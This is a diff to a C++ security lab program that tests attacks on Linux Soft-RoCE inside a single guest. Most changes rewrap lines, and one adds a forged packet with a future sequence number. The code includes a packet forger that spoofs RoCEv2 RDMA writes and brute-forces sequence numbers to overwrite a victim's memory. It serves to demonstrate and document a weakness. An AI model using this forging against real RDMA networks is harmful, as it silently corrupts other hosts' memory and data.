@@ -1,7 +1,7 @@
 // lab_enemies: what an enemy on the RDMA network can do to Linux's Soft-RoCE, and what stops him
-// (docs/security.md). Three devices in one guest: rxe0 belongs to the victim, rxe1 to its honest peer, rxe2 to the
-// enemy, first as a bad peer with a queue pair of his own, then as a host that forges packets. Prints a line for
-// each fact and ends with 1 at the first that does not hold.
+// (docs/security.md). Three devices in one guest: rxe0 belongs to the victim, rxe1 to its honest peer, rxe2
+// to the enemy, first as a bad peer with a queue pair of his own, then as a host that forges packets. Prints
+// a line for each fact and ends with 1 at the first that does not hold.
 #include <linux/if_packet.h>
 #include <net/ethernet.h>
 #include <net/if.h>
@@ -33,7 +33,8 @@ void say(const char* text) {
 
 // An end of somebody else's, with memory of its own to write from and read into.
 struct Peer {
-  Peer(const Nic& nic) : pd(nic.newDomain()), memory(kPage), mr(memory.registerWith(pd.get())), end(nic, pd.get()) {}
+  Peer(const Nic& nic)
+      : pd(nic.newDomain()), memory(kPage), mr(memory.registerWith(pd.get())), end(nic, pd.get()) {}
 
   ibv_wc_status operate(ibv_wr_opcode opcode, uint64_t address, uint32_t key) {
     ibv_sge sge = {memory.at(0), sizeof(uint64_t), mr->lkey};
@@ -184,7 +185,8 @@ uint32_t crc32(std::span<const uint8_t> bytes) {
   return ~crc;
 }
 
-// The sum over a packet has no secret. It leaves out what routers change (InfiniBand specification, annex A17.3.3).
+// The sum over a packet has no secret. It leaves out what routers change (InfiniBand specification, annex
+// A17.3.3).
 uint32_t invariantCrc(std::span<const uint8_t> packet) {
   std::vector<uint8_t> covered(8, 0xff);
   covered.insert(covered.end(), packet.begin(), packet.end());
@@ -210,7 +212,11 @@ class Forger {
     std::array<uint8_t, sizeof value> data;
     std::memcpy(data.data(), &value, sizeof value);
     Bytes packet;
-    packet.add(uint16_t{0x4500}).add(uint16_t{kPacket}).add(uint32_t{0x4000}).add(uint16_t{0x4011}).add(uint16_t{0});
+    packet.add(uint16_t{0x4500})
+        .add(uint16_t{kPacket})
+        .add(uint32_t{0x4000})
+        .add(uint16_t{0x4011})
+        .add(uint16_t{0});
     packet.add(ipv4(claimed_)).add(ipv4(victim_));
     packet.add(uint16_t{0xc000}).add(uint16_t{4791}).add(uint16_t{kPacket - 20}).add(uint16_t{0});
     packet.add(uint16_t{0x0a00}).add(uint16_t{0xffff}).add(queue_pair).add(psn);
@@ -271,15 +277,17 @@ void forger(const Nic& victim, const Nic& honest, const std::string& netdev) {
   say("numbers of queue pairs count up: they are no secret");
   need(friendly.peer.write(kTrue, memory.at(0), mr->rkey) == IBV_WC_SUCCESS, "the honest peer writes");
   const Forger forger(netdev, victim, honest);
-  // Packets of the past are acknowledged and dropped, so he may try one number after the other.
+  // Packets of the past are acknowledged and dropped, and those of the future refused, so he may try one
+  // number after the other.
   constexpr uint32_t kTried = 500;
   for (uint32_t psn = kPsn + 1 - kTried; psn != kPsn + 1; ++psn)
     forger.write(friendly.here.number(), psn, memory.at(0), mr->rkey, kFalse);
+  forger.write(friendly.here.number(), kPsn + kTried, memory.at(0), mr->rkey, kFalse);
   usleep(200'000);
-  need(memory.word() == kTrue, "a packet of the past does not write");
+  need(memory.word() == kTrue, "a packet of the past or the future does not write");
   forger.write(friendly.here.number(), kPsn + 1, memory.at(0), mr->rkey, kFalse);
   need(becomes(memory, kFalse), "a forged packet writes");
-  say("a forged packet with the next packet number writes; 500 wrong ones before it did no harm");
+  say("a forged packet with the next packet number writes; 501 wrong ones before it did no harm");
   need(friendly.peer.write(kTrue, memory.at(0), mr->rkey) == IBV_WC_SUCCESS && memory.word() == kFalse,
        "the true packet with that number is acknowledged and dropped");
   say("the honest peer's next write is acknowledged to him, and lost");
